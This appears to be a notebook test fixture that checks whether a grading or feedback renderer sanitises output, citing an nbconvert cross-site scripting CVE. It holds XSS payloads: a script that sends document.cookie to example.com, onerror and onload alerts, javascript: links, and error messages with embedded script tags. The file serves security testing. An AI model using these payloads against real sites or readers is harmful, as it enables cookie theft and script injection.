# ---
# note: displays HTML, JavaScript and images that run scripts in the feedback's reader's browser
# known_from: cross-site scripting in rendered notebooks (nbconvert's CVE-2021-32862)
# ---
# %% plain +top
from IPython.display import HTML, Javascript, Markdown, display

display(HTML("<script>fetch('https://example.com/?' + document.cookie)</script>"))
display(HTML("<img src=x onerror=alert(1)><svg onload=alert(2)>"))
display(Javascript("alert(3)"), Markdown("[click](javascript:alert(4))"))
display(
    {"image/png": 'x" onerror="alert(5)', "text/latex": "$\\href{javascript:alert(6)}{x}$"},
    raw=True,
)


# %% plain squares-answer
def squares(n):
    raise ValueError("<script>alert(7)</script>")


# %% plain primes-answer
primes = None


# %% plain mean-answer
def mean(values):
    raise ValueError("<script>alert(7)</script>")


# %% plain sentiment-answer
def sentiment(text):
    raise ValueError("<script>alert(7)</script>")


# %% plain fibonacci-answer
def fibonacci(n):
    raise ValueError("<script>alert(7)</script>")
